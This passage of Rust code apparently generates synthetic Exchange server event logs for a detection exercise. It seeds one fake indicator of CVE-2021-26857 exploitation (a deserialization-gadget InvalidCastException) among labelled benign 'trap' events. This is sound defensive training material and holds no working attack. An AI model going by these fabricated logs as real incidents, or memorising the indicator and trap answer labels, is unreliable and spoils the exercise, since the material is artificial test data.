            message: msg(&format!(r"{}\ClientAccess\OAB\Temp\{dir}\{file}-data-1.lzx", s.ex)),
            expect: Expect::Trap,
            note: "benign OAB download failure inside <EX>\\ClientAccess\\OAB\\Temp".into(),
        });
    }
    out
}

fn event_specials(
    s: &Server,
    at: &dyn Fn(i64, i64, i64, i64, i64) -> i64,
    trap_at: &dyn Fn(i64, i64, i64, i64, i64) -> i64,
) -> Vec<EventSpecial> {
    let mut out = Vec::new();
    if s.spec.compromised {
        out.push(EventSpecial {
            t: at(0, 6, 46, 10, 220),
            provider: "MSExchange Unified Messaging",
            event_id: 1001,
            level: 2,
            task: 1,
            text: UM_INVALIDCAST.into(),
            expect: Expect::Indicator,
            note: "CVE-2021-26857: UM worker error with System.InvalidCastException (deserialization gadget)".into(),
        });
    }
    out.push(EventSpecial {
        t: trap_at(2, 22, 4, 51, 0),
        provider: "MSExchange Unified Messaging",
        event_id: 1001,
        level: 2,
        task: 1,
        text: "An unhandled exception occurred in a UM worker process: System.OutOfMemoryException: Exception of type 'System.OutOfMemoryException' was thrown.\r\n   at Microsoft.Exchange.UM.UMCore.AudioCodec.Transcode(Stream input, Stream output)".into(),
        expect: Expect::Trap,
        note: "UM error with System.OutOfMemoryException (not InvalidCastException)".into(),
    });
    out.push(EventSpecial {
        t: trap_at(6, 8, 30, 2, 0),
        provider: "MSExchange Unified Messaging",
        event_id: 1050,
        level: 4,
        task: 1,
        text: "The Unified Messaging worker process recovered after a handled System.InvalidCastException while reading the grammar file cache. No action is required.".into(),
        expect: Expect::Trap,
        note: "UM information event (Level 4) that mentions System.InvalidCastException".into(),
    });
    out.push(EventSpecial {
        t: trap_at(10, 14, 55, 19, 0),
        provider: "MSExchange ADAccess",
        event_id: 2915,
        level: 2,
        task: 2,
        text: "Process w3wp.exe (PID=9412). An error occurred while reading the configuration object: System.InvalidCastException: Unable to cast object of type 'System.String' to type 'Microsoft.Exchange.Data.MultiValuedProperty`1[System.String]'.".into(),
        expect: Expect::Trap,
        note: "MSExchange ADAccess error with System.InvalidCastException (wrong provider)".into(),
    });
    out
}

const UM_INVALIDCAST: &str = "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties' to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'.\r\n   at Microsoft.Exchange.UM.UMCore.PipelineContext.Deserialize(Stream stream)\r\n   at Microsoft.Exchange.UM.UMCore.VoiceMessagePipelineContext..ctor(SubmissionHelper helper)\r\n   at Microsoft.Exchange.UM.UMCore.PipelineDispatcher.ProcessVoiceMail(String file)";
